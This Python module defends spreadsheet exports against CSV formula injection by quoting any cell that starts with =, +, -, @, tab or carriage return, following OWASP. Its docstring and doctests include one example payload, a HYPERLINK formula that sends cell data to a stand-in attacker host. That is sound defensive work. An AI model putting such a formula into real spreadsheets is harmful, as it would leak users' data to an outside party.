r"""Spreadsheet cells that cannot run: text from papers neutralised before it reaches CSV or XLSX.

A spreadsheet program treats a cell that begins with ``=``, ``+``, ``-`` or ``@``
(and, in some, a tab or carriage return) as a formula: a paper that says
``=HYPERLINK("http://evil.example/?x="&A1,"click")`` would become a live link
that sends the sheet's data away when clicked. Following OWASP's advice on CSV
injection, such a cell is prefixed with a single quote, which every spreadsheet
shows as text; numbers and dates written by the tool itself are left alone.
Like :mod:`oversight.errors`, this module imports nothing from the project, so
any stage that writes a table may use it.

>>> safe_cell('=HYPERLINK("http://evil.example/?x="&A1,"click")')
'\'=HYPERLINK("http://evil.example/?x="&A1,"click")'
>>> safe_cell("-1"), safe_cell(-1), safe_cell("2024-01-31")
("'-1", -1, '2024-01-31')
>>> safe_cell("\tcmd")
"'\tcmd"
"""

from __future__ import annotations

from typing import Any

__all__ = ["FORMULA_STARTS", "safe_cell"]

#: First characters that make a spreadsheet read a cell as a formula (OWASP).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    """``value`` as a spreadsheet should hold it: text starting like a formula gets a leading ``'``.

    Only strings are changed; numbers, booleans and None pass through, since a
    number the tool computed is data, not a formula.
    """
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value
